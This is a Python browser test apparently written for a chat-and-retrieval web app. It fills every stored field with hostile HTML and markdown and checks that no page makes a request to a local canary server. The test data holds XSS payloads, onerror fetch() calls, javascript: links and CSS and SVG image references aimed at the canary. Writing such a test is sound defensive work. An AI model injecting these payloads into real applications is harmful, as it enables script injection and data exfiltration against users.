"""Row 24 on every page that shows strangers' text, in a real Chromium: what would fetch something stays text.

The data folder is filled with the same text in every place where a model, a document, a tool or a file of others can
write; each page is opened, and tables and charts are pointed at. Nothing may be asked of the canary, and nothing on a
page may even refer to it but links, which need a click. (A hostile answer while it streams: tests/ui/test_browser.py.)
"""

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import NamedTuple

import pytest
from browsing import WAIT, app_process, button, patient
from hashed import HashedEmbeddings
from langchain_core.messages import AIMessage, HumanMessage
from playwright.sync_api import Page, expect, sync_playwright
from websites import HTML, Site, site

from phireside.agents.scenarios import Check, Outcome, Run, ScenarioRun, TurnRecord, scenario_runs
from phireside.agents.scenarios.outcome import Line
from phireside.chains import Cost
from phireside.chains.rag import AnswersRun, Judged, Report, Sample, Scores, answers_runs
from phireside.memory import ConversationStore
from phireside.retrieval import KnowledgeBase
from phireside.retrieval.evaluation import Collection, RetrievalRun, base_of, evaluate, retrieval_runs

pytestmark = pytest.mark.browser
Figure = Callable[[int, str], None]

# Whatever refers to the canary and is no link. `href` is an image's in SVG.
REFERENCES = """here => [...document.querySelectorAll('*')].filter(e =>
    ['src', 'srcset', 'data', 'poster', 'action', 'background', 'style', 'xlink:href', e.tagName === 'A' ? '' : 'href']
        .some(name => ((name && e.getAttribute(name)) || '').includes(here))
    || (e.tagName === 'STYLE' && e.textContent.includes(here))
    || (e.tagName === 'A' && /^\\s*(javascript|data):/i.test(e.getAttribute('href') || ''))
).map(e => e.outerHTML.slice(0, 200))"""


class Evil(NamedTuple):
    """The text in a line and in several, and where the app is."""

    line: str
    text: str
    canary: Site
    address: str
    runs: dict[str, str]


def hostile(here: str) -> tuple[str, str]:
    """What would fetch something from an address if it were drawn; in one line, and as a document."""
    line = (
        f'q=SECRET ![a]({here}/image?q=SECRET) <img src="{here}/img" onerror="fetch(\'{here}/error\')"> '
        f"<svg><image href='{here}/svg'/></svg> [x](javascript:fetch('{here}/script')) "
        f"<style>*{{background:url({here}/css)}}</style> :material/home: :red[x] $x$"
    )
    text = (
        f"# q=SECRET ![h]({here}/heading)\n\n{line}\n\n![b][ref]\n\n[ref]: {here}/reference\n\n"
        f"<iframe src='{here}/iframe'></iframe>\n\n:::x\n```\n:::\n![c]({here}/directive)\n```\n\n"
        f'```mermaid\nflowchart LR\n  B@{{ img: "{here}/mermaid", label: "x" }}\n```\n'
    )
    return line, text


# ---- the data folder ----


def seed(data: Path, work: Path, line: str, text: str) -> dict[str, str]:
    """Fill the folder; the ids of what was made, by kind."""
    (data / "models").mkdir(parents=True)
    (data / "models" / "<img src=x onerror=alert(1)>.gguf").write_bytes(b"GGUF")
    (data / "mcp.json").write_text(
        json.dumps({"mcpServers": {"<img src=x onerror=alert(1)>": {"command": "nobody", "args": [line]}}})
    )
    (data / "scenarios").mkdir()
    own = {"name": line, "description": text, "turns": [{"user": line}]}
    (data / "scenarios" / "own.yaml").write_text(json.dumps(own))
    base = KnowledgeBase.named("lake", data / "bases", HashedEmbeddings(), create=True)
    base.add_text(text, source=line, title=line)
    base.add_texts([f"{line} {number}" for number in range(12)], [{"title": line, "heading": line}] * 12)
    base.close()
    return {"chat": chat(data, line, text), **measured(data, work, line, text)}


def chat(data: Path, line: str, text: str) -> str:
    """A conversation with all that can be kept with an answer, and a fact."""
    store = ConversationStore(f"sqlite:///{data / 'conversations.db'}")
    made = store.create(line, system=text, base="lake", tools=["calculator"])
    passages = [{"number": 1, "text": text, "source": line, "title": line, "place": line, "ranks": {line: 1}}]
    steps = [
        {"kind": "searching", "query": line},
        {"kind": "found", "queries": [line, text], "passages": passages, "seconds": 1},
        {"kind": "thought", "text": text},
        {"kind": "action", "tool": line, "arguments": {line: text}},
        {"kind": "observation", "tool": line, "text": text},
    ]
    claims = [
        {"text": f"{line} [1]", "cited": [1], "verdict": verdict, "score": 0.5} for verdict in ("supported", "none")
    ]
    ours = {"steps": steps, "passages": passages, "claims": claims, "known": True, "base": line}
    answer = AIMessage(f"{text} [1]", additional_kwargs={"phireside": ours}, response_metadata={"model_name": line})
    store.save_turn(made.id, [HumanMessage(text), answer])
    store.facts.switch(True)
    store.facts.add(made.id, 0, [line])
    store.close()
    return made.id


def measured(data: Path, work: Path, line: str, text: str) -> dict[str, str]:
    """Runs of scenarios and evaluations."""
    turn = TurnRecord(
        text,
        [
            Line("thought", text), Line("action", line, line, {line: text}), Line("observation", text, line),
            Line("approval", line, line, {line: line}), Line("answer", text),
        ],
        [], text, Cost(), 1.0,
    )  # fmt: skip
    run = Run(1, [turn], [Check(line, line, False, 1, text)], 1.0, error=line)
    outcome = Outcome(line, data / "scenarios" / "own.yaml", line, False, 1.0, [run])
    scenarios = scenario_runs(data / "runs").save(line, ScenarioRun(line, 1, (outcome,), 1.0, (line,)))
    lake = Collection({"a": (line, text), "b": ("", line)}, {line: line}, {line: {"a": 1}})
    base = base_of(lake, work, HashedEmbeddings())
    found = evaluate(base, lake.queries, lake.judgments, k=2)
    base.close()
    searched = RetrievalRun(line, line, found, lake.queries, lake.judgments, "source", line, line)
    search = retrieval_runs(data / "runs").save(line, searched)
    judged = Judged(Sample(line, text), Scores(1.0, 0.5))
    report = Report((judged, replace(judged, scores=Scores(), problem=text)))
    answers = AnswersRun(line, line, (1, 2), report, ((3, line),), 3, line)
    return {
        "scenarios": scenarios.id, "search": search.id,
        "answers": answers_runs(data / "runs").save(line, answers).id,
    }  # fmt: skip


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Evil]:
    """The app on that folder."""
    with site({"*": (200, {"Content-Type": "image/gif"}, b"")}) as canary:
        data = tmp_path_factory.mktemp("evil") / "data"
        line, text = hostile(canary.url)
        runs = seed(data, tmp_path_factory.mktemp("work"), line, text)
        with app_process(data, PHIRESIDE_MODEL="starter") as address:
            yield Evil(line, text, canary, address, runs)


@pytest.fixture(scope="module")
def page(browser_path: Path) -> Iterator[Page]:
    """A page of a headless Chromium."""
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=browser_path, args=["--no-sandbox", "--disable-gpu"])
        yield patient(chromium.new_page(viewport={"width": 1440, "height": 900}))
        chromium.close()


# ---- the pages ----


def shows(page: Page, text: str = "q=SECRET") -> None:
    expect(page.locator("#stMain").get_by_text(text).first).to_be_visible(timeout=WAIT)


def point_at_everything(page: Page) -> None:
    """Move the mouse over tables and charts, whose boxes beside the mouse show texts, too."""
    for each in page.locator("[data-testid=stVegaLiteChart]:visible, [data-testid=stDataFrame]:visible").all():
        each.scroll_into_view_if_needed()
        box = each.bounding_box()
        assert box
        for part in range(1, 40):
            page.mouse.move(box["x"] + box["width"] * (part * 7 % 40) / 40, box["y"] + box["height"] * part / 40)
    page.wait_for_timeout(300)


def chat_page(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/?chat={evil.runs['chat']}")
    shows(page)
    page.get_by_text("1 passage found").click()
    button(page, "source-of-1-1").click()
    expect(page.get_by_test_id("stPopoverBody").locator("mark").first).to_be_visible(timeout=WAIT)
    page.keyboard.press("Escape")
    for key in ("pick-model", "pick-base", "pick-memory", "more"):
        button(page, key).click()
        expect(page.get_by_test_id("stPopoverBody")).to_be_visible(timeout=WAIT)
        page.keyboard.press("Escape")
        expect(page.get_by_test_id("stPopoverBody")).to_have_count(0)


def memory_page(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/memory")
    shows(page)


def documents_page(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/knowledge?base=lake")
    page.get_by_test_id("stButtonGroup").first.get_by_text("Documents", exact=True).click()
    shows(page)
    button(page, "read-").click()
    expect(page.get_by_text("1 of ").first).to_be_visible(timeout=WAIT)


def map_page(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/knowledge?base=lake")
    page.get_by_test_id("stButtonGroup").first.get_by_text("Map", exact=True).click()
    expect(page.get_by_test_id("stVegaLiteChart")).to_be_visible(timeout=2 * WAIT)
    page.get_by_test_id("stExpander").first.click()
    shows(page)


def scenario_pages(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/scenarios")
    shows(page)
    page.get_by_role("tab", name="Earlier runs").click()
    page.goto(f"{evil.address}/scenarios?run={evil.runs['scenarios']}")
    shows(page)


def search_page(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/evaluate")
    shows(page)
    page.goto(f"{evil.address}/evaluate?run={evil.runs['search']}")
    shows(page)
    page.get_by_text("the worst first").click()
    expect(page.get_by_test_id("stDataFrame")).to_have_count(2, timeout=WAIT)


def answers_page(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/evaluate?run={evil.runs['answers']}")
    shows(page)
    expect(page.get_by_test_id("stDataFrame").first).to_be_visible(timeout=WAIT)


def models_page(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/models")
    shows(page, "<img src=x onerror=alert(1)>")


def settings_page(page: Page, evil: Evil) -> None:
    page.goto(f"{evil.address}/settings")
    button(page, "mcp-look").click()
    shows(page)


PAGES = [
    chat_page, memory_page, documents_page, map_page, scenario_pages, search_page, answers_page, models_page,
    settings_page,
]  # fmt: skip


def test_no_page_fetches_what_strangers_wrote(evil: Evil, page: Page, figure: Figure) -> None:
    asked, complaints = list[str](), list[str]()
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: complaints.append(message.text))
    page.on("dialog", lambda dialog: complaints.append(dialog.message))
    references = []
    for visit in PAGES:
        visit(page, evil)
        point_at_everything(page)
        references += page.evaluate(REFERENCES, evil.canary.url)
    elsewhere = [url for url in asked if not url.startswith((evil.address, "data:", "blob:"))]
    figure(24, f"{len(PAGES)} pages with hostile text in every place: {len(evil.canary.hits)} requests to the canary, "
               f"{len(elsewhere)} elsewhere, {len(references)} elements that refer to it")  # fmt: skip
    assert evil.canary.hits == []
    assert elsewhere == []
    assert references == []
    assert not [each for each in complaints if "Content Security Policy" in each or evil.canary.url in each]
    evil.canary.routes["/page"] = (200, HTML, f"<img src='{evil.canary.url}/control'>".encode())
    page.goto(f"{evil.canary.url}/page")
    page.wait_for_timeout(500)
    assert "/control" in evil.canary.hits, "The canary can be reached."
    assert len(page.evaluate(REFERENCES, evil.canary.url)) == 1, "And what refers to it is found."
